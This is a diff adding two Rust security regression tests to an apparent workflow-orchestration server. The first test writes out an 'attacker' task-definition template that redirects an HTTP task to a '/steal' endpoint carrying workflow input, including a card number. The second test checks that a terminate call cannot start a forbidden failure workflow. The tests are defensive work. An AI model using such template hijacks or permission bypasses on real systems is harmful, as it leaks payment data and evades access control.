@@ -669,3 +669,155 @@ async fn a_rerun_with_new_input_unmasks_the_old_value_in_kept_tasks() {
     );
     app.stop().await;
 }
+
+/// A task definition is code for system tasks too. Its owner may change it (and
+/// is told it cannot receive other people's tasks), but its `inputTemplate` is
+/// merged into every node of its name and its expressions are evaluated against
+/// the run: for an `HTTP` task written with top-level `uri`/`method`/`body`, a
+/// template `http_request` replaces the request. The names rule stops claiming a
+/// name in use; it cannot stop a name registered before a workflow used it.
+///
+/// 1. an application with METADATA_API registers task definition `notify_partner`
+///    (a plain one; it owns it);
+/// 2. the admin registers `payouts`, whose `HTTP` task is named `notify_partner`;
+/// 3. the owner `PUT /api/metadata/taskdefs` `notify_partner` with `inputTemplate`
+///    `{"http_request": {"uri": "<its server>", "body": "${workflow.input}"}}`;
+/// 4. the admin starts `payouts` with a card number in its input.
+#[tokio::test]
+async fn a_task_definition_registered_first_redirects_a_later_http_task() {
+    let app = TestApp::spawn_with(allow_loopback).await;
+    let (service, seen, server) = recorder().await;
+    let attacker = application(&app, "attacker", &["METADATA_API"]).await;
+    let plain = call(
+        &app,
+        &attacker,
+        "POST",
+        "/api/metadata/taskdefs",
+        Some(json!([task_def("notify_partner")])),
+    )
+    .await;
+    assert_eq!(plain.status, 200, "{}", plain.text);
+    app.register(
+        json!([]),
+        json!({"name": "payouts", "version": 1, "tasks": [
+            {"name": "notify_partner", "taskReferenceName": "n", "type": "HTTP",
+             "inputParameters": {"uri": format!("{service}/partner"), "method": "POST",
+                                 "body": {"amount": "${workflow.input.amount}"}}}
+        ]}),
+    )
+    .await;
+    let mut template = task_def("notify_partner");
+    template["inputTemplate"] = json!({"http_request": {
+        "uri": format!("{service}/steal"), "method": "POST", "body": "${workflow.input}"}});
+    let changed = call(
+        &app,
+        &attacker,
+        "PUT",
+        "/api/metadata/taskdefs",
+        Some(template),
+    )
+    .await;
+    let id = app
+        .start(
+            "payouts",
+            json!({"amount": 10, "card": "4111-1111-1111-1111"}),
+        )
+        .await;
+    ended(&app, &id).await;
+    let calls = seen.lock().expect("lock").clone();
+    server.abort();
+    assert!(
+        calls.iter().all(|(path, _)| path != "/steal"),
+        "changing the template answered {}; the call went to the attacker: {calls:?}",
+        changed.status
+    );
+    app.stop().await;
+}
+
+/// Terminating someone else's run with `triggerFailureWorkflow=true` starts work
+/// the caller may not start. An operator may operate `settle` runs (EXECUTE), not
+/// run the `refund_all` failure workflow; the victim who started the run may.
+/// The failure workflow is checked for the run's principals only, and its input
+/// carries the operator's `reason`.
+///
+/// 1. the victim `POST /api/workflow/settle`;
+/// 2. the operator `DELETE /api/workflow/{id}?triggerFailureWorkflow=true&reason=...`;
+/// 3. `refund_all` starts, as the victim, and its worker is handed the task.
+#[tokio::test]
+async fn terminate_with_trigger_starts_a_failure_workflow_the_caller_may_not_start() {
+    let app = TestApp::spawn().await;
+    app.register(
+        json!([task_def("refund_step"), task_def("settle_step")]),
+        json!({"name": "refund_all", "version": 1, "tasks": [
+            {"name": "refund_step", "taskReferenceName": "r", "type": "SIMPLE",
+             "inputParameters": {"why": "${workflow.input.reason}"}}
+        ]}),
+    )
+    .await;
+    app.register(
+        json!([]),
+        json!({"name": "settle", "version": 1, "failureWorkflow": "refund_all", "tasks": [
+            {"name": "settle_step", "taskReferenceName": "s", "type": "SIMPLE", "inputParameters": {}}
+        ]}),
+    )
+    .await;
+    let victim = application(&app, "victim", &[]).await;
+    for (kind, name) in [
+        ("WORKFLOW_DEF", "settle"),
+        ("WORKFLOW_DEF", "refund_all"),
+        ("TASK_DEF", "settle_step"),
+        ("TASK_DEF", "refund_step"),
+    ] {
+        granted(&app, &victim, kind, name, &["EXECUTE"]).await;
+    }
+    let operator = application(&app, "operator", &[]).await;
+    granted(&app, &operator, "WORKFLOW_DEF", "settle", &["EXECUTE"]).await;
+    let refuse = call(
+        &app,
+        &operator,
+        "POST",
+        "/api/workflow/refund_all",
+        Some(json!({})),
+    )
+    .await;
+    assert_eq!(refuse.status, 403, "{}", refuse.text);
+    let started = call(
+        &app,
+        &victim,
+        "POST",
+        "/api/workflow/settle",
+        Some(json!({})),
+    )
+    .await;
+    assert_eq!(started.status, 200, "{}", started.text);
+    let id = started.text;
+    let terminated = call(
+        &app,
+        &operator,
+        "DELETE",
+        &format!("/api/workflow/{id}?triggerFailureWorkflow=true&reason=operator-says-refund"),
+        None,
+    )
+    .await;
+    let mut outcome = Value::Null;
+    for _ in 0..100 {
+        outcome = app.workflow(&id).await["output"]["conductor.failure_workflow"].clone();
+        if !outcome.is_null() {
+            break;
+        }
+        tokio::time::sleep(std::time::Duration::from_millis(20)).await;
+    }
+    let mut refunds = Vec::new();
+    for _ in 0..10 {
+        refunds = app.poll("refund_step", 1, 100).await;
+        if !refunds.is_empty() {
+            break;
+        }
+    }
+    assert!(
+        refunds.is_empty(),
+        "terminate answered {}; the failure workflow ran ({outcome}): {refunds:?}",
+        terminated.status
+    );
+    app.stop().await;
+}
